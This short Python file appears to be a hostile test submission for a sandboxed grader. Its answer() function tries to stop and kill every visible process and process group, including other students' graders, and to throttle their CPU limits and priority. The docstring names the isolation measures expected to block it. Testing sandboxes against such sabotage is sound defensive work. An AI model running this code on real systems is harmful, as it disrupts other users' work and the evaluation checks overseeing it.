"""Looks for the grader of another student and ends it.

Tries: every process number in /proc and around its own, process groups, and the scheduler's limits on them.
Stopped by: another pid namespace; Landlock scopes signals; seccomp lets a process signal itself only.
"""

import ctypes
import os
import resource
import signal

C = ctypes.CDLL(None)


def answer(x):
    try:
        pids = {int(name) for name in os.listdir("/proc") if name.isdigit()}
    except OSError:
        pids = set()
    for pid in {VICTIM, EXAMINER, os.getppid(), *pids} - {os.getpid(), 0, 1}:
        for number in (signal.SIGSTOP, signal.SIGKILL):
            for send in (os.kill, os.killpg):
                try:
                    send(pid, number)
                except OSError:
                    continue
        try:
            resource.prlimit(pid, resource.RLIMIT_CPU, (1, 1))
        except OSError:
            continue
        C.setpriority(0, pid, 19)
    return x
